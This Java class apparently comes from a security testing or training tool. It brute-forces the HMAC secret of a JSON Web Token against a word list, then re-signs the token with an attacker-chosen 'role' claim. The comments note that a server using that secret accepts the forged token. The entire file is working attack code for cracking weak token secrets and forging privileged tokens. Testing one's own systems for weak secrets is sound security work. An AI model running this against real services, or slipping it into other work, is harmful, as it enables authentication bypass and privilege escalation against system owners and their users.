package loginlens.attack.guess;

import com.auth0.jwt.algorithms.Algorithm;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.time.Duration;
import java.util.Arrays;
import java.util.Optional;
import java.util.function.BooleanSupplier;
import java.util.function.Consumer;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import loginlens.attack.lab.TokenDraft;
import loginlens.token.encoding.Base64Url;
import loginlens.token.encoding.Span;
import loginlens.token.keys.SigningAlgorithm;
import loginlens.token.reading.Claim;
import loginlens.token.reading.ReadToken;
import loginlens.token.reading.TokenPart;
import loginlens.token.reading.TokenReader;

/** Tries word after word as the secret of a token. Not for the FX thread; may be cancelled from any other. */
public final class SecretSearch {
    /** How many words are tried between two reports. */
    private static final int BATCH = 500;

    /** Tries all words. */
    public Guess search(String token, WordList words) {
        return search(token, words, progress -> {}, () -> false);
    }

    /**
     * Tries the words in their order.
     *
     * @param report    told after every 500 words, on this thread
     * @param cancelled asked as often; once it says yes, the search ends
     */
    public Guess search(String token, WordList words, Consumer<Progress> report, BooleanSupplier cancelled) {
        ReadToken read = TokenReader.read(token);
        Optional<SigningAlgorithm> algorithm = read.headerParameter("alg").flatMap(Claim::text)
                .flatMap(SigningAlgorithm::named).filter(a -> a.family() == SigningAlgorithm.Family.HMAC);
        Optional<Span> signature = read.signature().map(TokenPart::inRaw).filter(at -> at.length() > 0);
        if (algorithm.isEmpty() || signature.isEmpty()) {
            return new Guess.NoSecret();
        }
        byte[] wanted = Base64Url.decode(token, signature.get()).bytes();
        byte[] signed = token.substring(0, signature.get().start() - 1).getBytes(StandardCharsets.UTF_8);
        try {
            Mac mac = Mac.getInstance("HmacSHA" + algorithm.get().hashBits());
            return search(mac, signed, wanted, words, report, cancelled);
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException("every JDK has HMAC with SHA-2", e);
        }
    }

    private static Guess search(Mac mac, byte[] signed, byte[] wanted, WordList words, Consumer<Progress> report,
                                BooleanSupplier cancelled) throws GeneralSecurityException {
        long start = System.nanoTime();
        int tried = 0;
        for (String word : words.words()) {
            mac.init(new SecretKeySpec(word.getBytes(StandardCharsets.UTF_8), mac.getAlgorithm()));
            tried++;
            if (Arrays.equals(mac.doFinal(signed), wanted)) {
                return new Guess.Found(word, tried, progress(tried, words, start));
            }
            if (tried % BATCH == 0) {
                report.accept(progress(tried, words, start));
                if (cancelled.getAsBoolean()) {
                    return new Guess.Cancelled(progress(tried, words, start));
                }
            }
        }
        return new Guess.NotFound(progress(tried, words, start));
    }

    private static Progress progress(int tried, WordList words, long start) {
        return new Progress(tried, words.words().size(), Duration.ofNanos(System.nanoTime() - start));
    }

    /**
     * The same token with this role, signed again with the secret that was found. It is genuinely valid: a correct
     * server with that secret accepts it too.
     *
     * @param token a token for which a search has found its secret
     */
    public static String signAgain(String token, Guess.Found found, String role) {
        TokenDraft draft = TokenDraft.of(token).claim("role", role);
        String alg = TokenReader.read(token).headerParameter("alg").flatMap(Claim::text).orElseThrow();
        return draft.signed(switch (SigningAlgorithm.named(alg).orElseThrow()) {
            case HS384 -> Algorithm.HMAC384(found.secret());
            case HS512 -> Algorithm.HMAC512(found.secret());
            default -> Algorithm.HMAC256(found.secret());
        }).compact();
    }
}
